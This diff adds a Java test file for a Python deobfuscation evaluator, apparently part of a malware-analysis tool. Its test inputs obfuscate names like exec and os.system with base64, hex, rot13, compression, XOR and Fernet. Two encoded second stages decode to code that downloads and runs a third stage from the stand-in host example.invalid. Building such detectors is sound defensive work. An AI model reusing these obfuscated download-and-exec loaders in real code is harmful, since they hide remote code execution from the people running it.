@@ -1,0 +1,166 @@
+package dev.chainhunt.deobf.python;
+
+import dev.chainhunt.deobf.Budget;
+import dev.chainhunt.deobf.Value;
+import dev.chainhunt.lang.python.PyParser;
+import org.junit.jupiter.api.Test;
+import org.junit.jupiter.params.ParameterizedTest;
+import org.junit.jupiter.params.provider.Arguments;
+import org.junit.jupiter.params.provider.MethodSource;
+
+import java.util.List;
+import java.util.stream.Stream;
+
+import static org.assertj.core.api.Assertions.assertThat;
+
+/**
+ * Input → decoded value pairs for every transform the evaluator undoes. Each case passes an
+ * expression to {@code sink(...)} and checks the argument value the evaluator computed, and the
+ * decode chain it recorded.
+ */
+class PyEvaluatorTest {
+
+    static PyModel evaluate(String code) {
+        PyModel model = PyEvaluator.evaluate(PyParser.parse(code), Budget.defaults());
+        assertThat(model.stopped()).as("evaluation stopped").isNull();
+        return model;
+    }
+
+    /** The first argument of the last call to sink(...). */
+    static Value sunk(String code) {
+        List<PyModel.CallSite> sinks = evaluate(code).calls().stream().filter(c -> c.callee().equals("sink")).toList();
+        assertThat(sinks).as("calls to sink").isNotEmpty();
+        return sinks.get(sinks.size() - 1).args().get(0);
+    }
+
+    static Stream<Arguments> transforms() {
+        return Stream.of(
+                // constants, operators, formatting
+                Arguments.of("sink('ex' + 'ec')", "exec", List.of()),
+                Arguments.of("sink('%s://%s/%d' % ('https', 'example.invalid', 7))", "https://example.invalid/7", List.of()),
+                Arguments.of("sink('{}://{host}/{0}'.format('https', host='example.invalid'))", "https://example.invalid/https", List.of()),
+                Arguments.of("h = 'example.invalid'\nsink(f'https://{h}/{1 + 1}')", "https://example.invalid/2", List.of()),
+                Arguments.of("sink('x' * 3 + str(2 ** 10))", "xxx1024", List.of()),
+                Arguments.of("sink(str((0x0f << 4 | 3) ^ 0b101 & ~0))", "246", List.of()),
+                Arguments.of("sink(hex(255) + oct(8) + bin(5))", "0xff0o100b101", List.of()),
+                Arguments.of("sink(str(int('ff', 16) + int('0o17', 0)))", "270", List.of()),
+                // joins, chr, map, getattr over builtins
+                Arguments.of("sink(''.join([chr(104), chr(105)]))", "hi", List.of("chr")),
+                Arguments.of("sink(''.join(chr(c) for c in [101, 118, 97, 108]))", "eval", List.of("chr")),
+                Arguments.of("sink(''.join(map(chr, [111, 115])))", "os", List.of("chr")),
+                Arguments.of("sink(''.join(map(getattr(__builtins__, oct.__str__()[-3 << 0] + hex.__str__()[-1 << 2]"
+                        + " + copyright.__str__()[4 << 0]), [(((1 << 4) - 1) << 3) - 1, ((((3 << 2) + 1)) << 3) + 1,"
+                        + " (7 << 4) - (1 << 1), ((((3 << 2) + 1)) << 2) - 1, (((3 << 3) + 1) << 1)])))", "win32", List.of("chr")),
+                Arguments.of("sink(str(oct) + repr('a'))", "<built-in function oct>'a'", List.of()),
+                Arguments.of("sink(str(int))", "<class 'int'>", List.of()),
+                // slicing and sequences
+                Arguments.of("sink('dilavni.elpmaxe//:sptth'[::-1])", "https://example.invalid", List.of("reverse")),
+                Arguments.of("sink('abcdef'[1:5:2] + 'xyz'[-1])", "bdz", List.of()),
+                Arguments.of("sink(bytes([104, 116, 116, 112]).decode())", "http", List.of("int-list")),
+                Arguments.of("sink(bytearray([111, 115]).decode())", "os", List.of("int-list")),
+                Arguments.of("sink(bytes.fromhex('6f73 2e73797374656d').decode())", "os.system", List.of("hex")),
+                // str and bytes methods
+                Arguments.of("sink('e_x_e_c'.replace('_', ''))", "exec", List.of()),
+                Arguments.of("sink('  OS '.strip().lower())", "os", List.of()),
+                Arguments.of("sink('a,b,c'.split(',')[1].upper())", "B", List.of()),
+                Arguments.of("sink('hello'.translate(str.maketrans('el', 'ip')))", "hippo", List.of("translate")),
+                Arguments.of("sink('h\\u00e9'.encode('utf-8').decode('latin-1'))", "h\u00c3\u00a9", List.of()),
+                Arguments.of("sink(b'  ping  '.strip().decode())", "ping", List.of()),
+                // base64 in every variant
+                Arguments.of("import base64\nsink(base64.b64decode('aHR0cHM6Ly9leGFtcGxlLmludmFsaWQ='))", "https://example.invalid", List.of("base64")),
+                Arguments.of("import base64\nsink(base64.urlsafe_b64decode('-__-IGh0dHBzOi8vZXhhbXBsZS5pbnZhbGlkL3U_')[4:])", "https://example.invalid/u?", List.of("base64")),
+                Arguments.of("import base64\nsink(base64.b32decode('NB2HI4DTHIXS6ZLYMFWXA3DFFZUW45TBNRUWILZTGI======'))", "https://example.invalid/32", List.of("base32")),
+                Arguments.of("import base64\nsink(base64.b16decode('68747470733A2F2F6578616D706C652E696E76616C69642F3136'))", "https://example.invalid/16", List.of("base16")),
+                Arguments.of("import base64\nsink(base64.b85decode('XmoUNb2=|CWq4t2aBO8RX>N95Y-waKI5h'))", "https://example.invalid/85", List.of("base85")),
+                Arguments.of("import base64\nsink(base64.a85decode('BQS?8F#ks-AU%X#E,9)<Bl8*&Ch[E5@5p+'))", "https://example.invalid/a85", List.of("ascii85")),
+                Arguments.of("import base64\nsink(base64.a85decode('<~BQS?8F#ks-AU%X#E,9)<Bl8*&Ch[E5@5p+~>'))", "https://example.invalid/a85", List.of("ascii85")),
+                Arguments.of("import base64\nsink(base64.decodebytes(b'aHR0cHM6Ly9leGFtcGxlLmludmFsaWQ=\\n'))", "https://example.invalid", List.of("base64")),
+                Arguments.of("import codecs\nsink(codecs.decode(b'aHR0cHM6Ly9leGFtcGxlLmludmFsaWQ=', 'base64'))", "https://example.invalid", List.of("base64")),
+                Arguments.of("import binascii\nsink(binascii.a2b_base64('aHR0cHM6Ly9leGFtcGxlLmludmFsaWQ='))", "https://example.invalid", List.of("base64")),
+                // hex and rot13
+                Arguments.of("import binascii\nsink(binascii.unhexlify('68747470'))", "http", List.of("hex")),
+                Arguments.of("import codecs\nsink(codecs.decode('68747470', 'hex'))", "http", List.of("hex")),
+                Arguments.of("import codecs\nsink(codecs.decode('uggcf://rknzcyr.vainyvq/e', 'rot13'))", "https://example.invalid/r", List.of("rot13")),
+                Arguments.of("import codecs\nsink(codecs.encode('uggcf', 'rot_13'))", "https", List.of("rot13")),
+                // decompression of constant data
+                Arguments.of("import zlib, base64\nsink(zlib.decompress(base64.b64decode('eJzLKCkpKLbS10+tSMwtyEnVy8wrS8zJTNGvAgB7EQl2')))", "https://example.invalid/z", List.of("base64", "zlib")),
+                Arguments.of("import gzip, base64\nsink(gzip.decompress(base64.b64decode('H4sIAAAAAAACA8soKSkottLXT61IzC3ISdXLzCtLzMlM0U8HALiodzwZAAAA')))", "https://example.invalid/g", List.of("base64", "gzip")),
+                Arguments.of("import bz2, base64\nsink(bz2.decompress(base64.b64decode('QlpoOTFBWSZTWciygrgAAAWZgAABgBA2Z01AIAAxQ00wAFGJ6gxNqBQ00VeEdO1Fh4tiifi7kinChIZFlBXA')))", "https://example.invalid/b", List.of("base64", "bz2")),
+                Arguments.of("import lzma, base64\nsink(lzma.decompress(base64.b64decode('/Td6WFoAAATm1rRGAgAhARYAAAB0L+WjAQAYaHR0cHM6Ly9leGFtcGxlLmludmFsaWQvbAAAAADpoteM4DPKPQABMRlZGrCCH7bzfQEAAAAABFla')))", "https://example.invalid/l", List.of("base64", "lzma")),
+                Arguments.of("import lzma, base64\nsink(lzma.decompress(base64.b64decode('XQAAgAD//////////wA0HSzgdXPvDKVIZF8CYjBmKP/XaMR4PudGQKBbpf/9R4AA')))", "https://example.invalid/a", List.of("base64", "lzma")),
+                // XOR with a constant key
+                Arguments.of("sink(bytes([c ^ 42 for c in [66, 94, 94, 90, 89, 16, 5, 5, 79, 82, 75, 71, 90, 70, 79, 4, 67, 68, 92, 75, 70, 67, 78, 5, 82]]))", "https://example.invalid/x", List.of("xor")),
+                Arguments.of("k = b'k3y'\nd = [3, 71, 13, 27, 64, 67, 68, 28, 28, 19, 82, 20, 27, 95, 28, 69, 90, 23, 29, 82, 21, 2, 87, 86, 0]\n"
+                        + "sink(''.join(chr(c ^ k[i % len(k)]) for i, c in enumerate(d)))", "https://example.invalid/k", List.of("chr", "xor")),
+                Arguments.of("out = []\nfor c in 'bcdef':\n    out.append(chr(ord(c) - 1))\nsink(''.join(out))", "abcde", List.of("chr")),
+                // Fernet with a literal key (the specification's own test vector)
+                Arguments.of("from cryptography.fernet import Fernet\nsink(Fernet(b'cw_0x689RpI-jtRR7oE8h_eQsKImvJapLeSbXpwF4e4=')"
+                        + ".decrypt(b'gAAAAAAdwJ6wAAECAwQFBgcICQoLDA0ODy021cpGVWKZ_eEwCGM4BLLF_5CV9dOPmrhuVUPgJobwOz7JcbmrR64jVmpU4IwqDA=='))", "hello", List.of("fernet")),
+                // functions that return constants, and small decoders
+                Arguments.of("def k():\n    return 'ex' + 'ec'\nsink(k())", "exec", List.of()),
+                Arguments.of("import base64\ndef d(s):\n    return base64.b64decode(s[::-1]).decode()\nsink(d('=QWasFmdulmLlxGctFGel9yL6MHc0RHa'))", "https://example.invalid", List.of("reverse", "base64")),
+                Arguments.of("f = lambda s: ''.join(chr(ord(c) ^ 1) for c in s)\nsink(f('dydb'))", "exec", List.of("chr", "xor"))
+        );
+    }
+
+    @ParameterizedTest(name = "{0}")
+    @MethodSource("transforms")
+    void undoesTransform(String code, String expected, List<String> chain) {
+        Value v = sunk(code);
+        assertThat(PyValues.text(v)).isEqualTo(expected);
+        assertThat(v.chain()).isEqualTo(chain);
+    }
+
+    @Test
+    void fourLayersEndingInASecondStageWithAUrl() {
+        // hex → reversed → base64 → zlib → base64 → Python that downloads and runs a third stage
+        String code = "import base64, zlib, binascii\n"
+                + "blob = '3d38314b554632446a66714935766672444b31515a57653532624f3764677244356e5778523643355341697242366c5350415135584d4c57556f317848784f664a412f2f7a7a4342554132686a516851652b6968314e546472706d546f363661714d4557754f2b33366b7534706d5a304d6a6e2b364f5838664845393276474c62635836323469707a4c6c4446774d314e347968426c6c6358424f41594169774b454d7964774a65'\n"
+                + "exec(base64.b64decode(zlib.decompress(base64.b64decode(binascii.unhexlify(blob)[::-1]))))\n";
+        PyModel model = evaluate(code);
+        assertThat(model.stages()).singleElement().satisfies(stage -> {
+            assertThat(stage.text()).contains("urlopen('https://example.invalid/stage3')");
+            assertThat(stage.chain()).containsExactly("hex", "reverse", "base64", "zlib", "base64", "python");
+            assertThat(stage.via()).isEqualTo("builtins.exec");
+            assertThat(stage.origin()).isEqualTo(code.indexOf("'3d38"));
+        });
+    }
+
+    @Test
+    void fernetWrappedSecondStage() {
+        String code = "from fernet import Fernet\n"
+                + "exec(Fernet(b'cw_0x689RpI-jtRR7oE8h_eQsKImvJapLeSbXpwF4e4=').decrypt(b'gAAAAABrCWaWtSpr9_UDJKKjFW-r0jpnLvfe7QaNiigBP5LcPWeDwD3D6fukKdAhunDhHAAc6aYT_wOHWwJQwtMpj9T7aLLw3VwlSQQ5kffDLwEIrYRBpHHgKZEbCGusm12PGaIDHGItQiE38h-ZnygBdaRqmAV4DFXg18TVsOBOgzilVC4BbFqKa9nPO8hdNSEpKxBDEqzs'))\n";
+        assertThat(evaluate(code).stages()).singleElement().satisfies(stage -> {
+            assertThat(stage.text()).startsWith("import urllib.request");
+            assertThat(stage.chain()).containsExactly("fernet", "python");
+        });
+    }
+
+    @Test
+    void serialisedCodeIsNotRunButKeptAsData() {
+        PyModel model = evaluate("import marshal\nexec(marshal.loads(b'\\xe3\\x00\\x00\\x00https://example.invalid/m'))\n");
+        assertThat(model.stages()).isEmpty();
+        assertThat(model.decoded()).singleElement().satisfies(d -> {
+            assertThat(d.chain()).containsExactly("marshal");
+            assertThat(d.text()).contains("https://example.invalid/m");
+        });
+        assertThat(model.calls()).anySatisfy(c -> {
+            assertThat(c.callee()).isEqualTo("builtins.exec");
+            assertThat(c.args().get(0).from()).contains("marshal.loads");
+        });
+    }
+
+    @Test
+    void budgetsStopBombsAndExplosionsCleanly() {
+        // 1 MiB of zeros per layer, compressed: the decompressor's cap, not memory, decides.
+        String bomb = "import zlib\nx = zlib.decompress(" + "b'x\\x9c' + b'\\x00' * 10" + ")\n";
+        assertThat(PyEvaluator.evaluate(PyParser.parse(bomb), Budget.defaults()).stopped()).isNull();
+        PyModel exponential = PyEvaluator.evaluate(PyParser.parse("x = 'a'\n" + "x = x + x\n".repeat(200)), Budget.defaults());
+        assertThat(exponential.stopped()).isNull();
+        PyModel loop = PyEvaluator.evaluate(PyParser.parse("i = 0\nwhile True:\n    i += 1\n"), new Budget(50_000, 1 << 20, 300));
+        assertThat(loop.stopped()).contains("evaluation steps");
+        PyModel power = PyEvaluator.evaluate(PyParser.parse("x = 2 ** 10 ** 9\nsink(x)\n"), Budget.defaults());
+        assertThat(power.stopped()).isNull();
+        assertThat(power.calls()).singleElement().satisfies(c -> assertThat(c.args().get(0)).isInstanceOf(Value.Opaque.class));
+    }
+}
